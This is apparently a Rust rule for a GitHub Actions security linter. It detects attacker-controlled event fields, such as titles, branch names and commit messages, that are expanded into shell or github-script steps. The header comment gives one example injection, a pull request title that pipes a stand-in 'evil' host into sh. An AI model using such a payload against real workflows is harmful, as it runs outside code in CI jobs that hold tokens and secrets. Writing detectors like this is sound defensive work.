//! `template-injection`: an attacker-controllable context expanded with
//! `${{ }}` inside `run:` (a shell script) or `script:` of
//! `actions/github-script` (JavaScript). The expansion happens before the
//! shell or interpreter sees the text, so a pull request title like
//! `"; curl evil | sh #` becomes code.
//!
//! Attacker-controllable: titles, bodies, branch names, commit messages and
//! author names/emails of issues, pull requests, comments, reviews,
//! discussions, pushes and workflow runs (see `DANGEROUS`), and expansions
//! of whole objects that contain them (`toJSON(github.event)`). Inputs of
//! `workflow_dispatch` and step outputs are not flagged: they need write
//! access or are not attacker text in general (a known limit).

use crate::expr::{context_paths, expressions, path_contains, path_matches};
use crate::finding::{Confidence, Draft, Severity};
use crate::model::{Action, Step, Workflow};
use crate::route::{Loc, Route};
use crate::rules::{Context, Rule, RuleMeta};

pub static META: RuleMeta = RuleMeta {
    id: "template-injection",
    severity: Severity::High,
    confidence: Confidence::High,
    summary: "Attacker-controllable text (titles, bodies, branch names, ...) is expanded into a script.",
    risk: "`${{ }}` is replaced before the shell runs, so the text becomes part of the script. \
           Anyone who can open an issue or pull request, name a branch or write a commit \
           message can run commands in the job, with its token and secrets.",
    fix: "Pass the value through an environment variable and quote it in the script: \
          `env: TITLE: ${{ github.event.issue.title }}` and `run: echo \"$TITLE\"` (in \
          github-script, read `context.payload` or `process.env`).",
};

/// Context paths whose value an outside attacker chooses. `*` is one segment.
const DANGEROUS: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
];

pub struct TemplateInjection;

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_workflow(&self, wf: &Workflow<'_>, _cx: &Context<'_>) -> Vec<Draft> {
        wf.jobs.iter().flat_map(|j| check_steps(&j.steps)).collect()
    }

    fn check_action(&self, action: &Action<'_>, _cx: &Context<'_>) -> Vec<Draft> {
        check_steps(&action.steps)
    }
}

fn check_steps(steps: &[Step<'_>]) -> Vec<Draft> {
    let mut out = Vec::new();
    for step in steps {
        if let Some(run) = step.run {
            out.extend(check_text(run, step.route.key("run"), "shell script"));
        }
        if step.uses_action("actions/github-script")
            && let Some(script) = step.input("script")
        {
            out.extend(check_text(
                script,
                step.route.key("with").key("script"),
                "github-script code",
            ));
        }
    }
    out
}

fn check_text(text: &str, route: Route, what: &str) -> Vec<Draft> {
    let mut out = Vec::new();
    let mut seen: Vec<&str> = Vec::new();
    for e in expressions(text) {
        let occurrence = seen.iter().filter(|r| **r == e.raw).count();
        seen.push(e.raw);
        let Some(path) = context_paths(e.inner).into_iter().find(|p| {
            DANGEROUS
                .iter()
                .any(|d| path_matches(p, d) || (p.starts_with("github") && path_contains(p, d)))
        }) else {
            continue;
        };
        let whole_object = !DANGEROUS.iter().any(|d| path_matches(&path, d));
        let confidence = if whole_object {
            Confidence::Medium
        } else {
            Confidence::High
        };
        out.push(
            Draft::new(
                &META,
                format!("`{path}` can be chosen by an attacker and is expanded into the {what}"),
                Loc::value(route.clone()).with_needle(e.raw).nth(occurrence),
                "attacker-controllable expansion",
            )
            .confidence(confidence),
        );
    }
    out
}
